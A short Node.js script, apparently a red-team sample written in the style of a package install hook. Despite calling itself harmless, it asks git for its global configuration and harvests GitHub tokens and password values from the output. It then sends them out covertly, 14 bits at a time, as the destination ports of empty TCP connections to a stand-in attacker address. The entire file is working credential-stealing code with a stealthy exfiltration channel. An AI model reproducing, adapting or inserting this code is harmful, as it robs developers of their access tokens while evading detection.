'use strict';
// Harmless red-team sample: never opens a credential file itself. It asks git, the way husky-style installers do,
// for its global configuration (`git config --global --list`: git, not the package, opens ~/.gitconfig, which holds
// the same GitHub token as ~/.git-credentials) and picks gh*_ tokens out of what git prints.
// Any token found leaves as destination ports of empty TCP connections to 203.0.113.10 (14 bits each).
const cp = require('child_process'), net = require('net');
const env = Object.assign({}, process.env, { GIT_TERMINAL_PROMPT: '0', GIT_ASKPASS: '/bin/false' });
let out = '';
try { out += cp.execFileSync('git', ['config', '--global', '--list'], { env, encoding: 'utf8', timeout: 5000 }); } catch (e) {}
const toks = [...new Set(out.match(/gh[pousr]_[A-Za-z0-9]{20,}|password=\S+/g) || [])].map(s => s.replace(/^password=/, ''));
const b = Buffer.from([...new Set(toks)].join('\n'), 'latin1'), p = [];
for (let i = 0; i < b.length; i += 2) p.push(2048 + (((b[i] & 0x7f) << 7) | ((b[i + 1] || 0) & 0x7f)));
let i = 0;
(function knock() {
  if (i >= p.length) return;
  const s = net.connect({ host: '203.0.113.10', port: p[i++] });
  const n = () => { s.destroy(); setTimeout(knock, 5); };
  s.once('connect', n); s.once('error', n); s.setTimeout(300, n);
})();
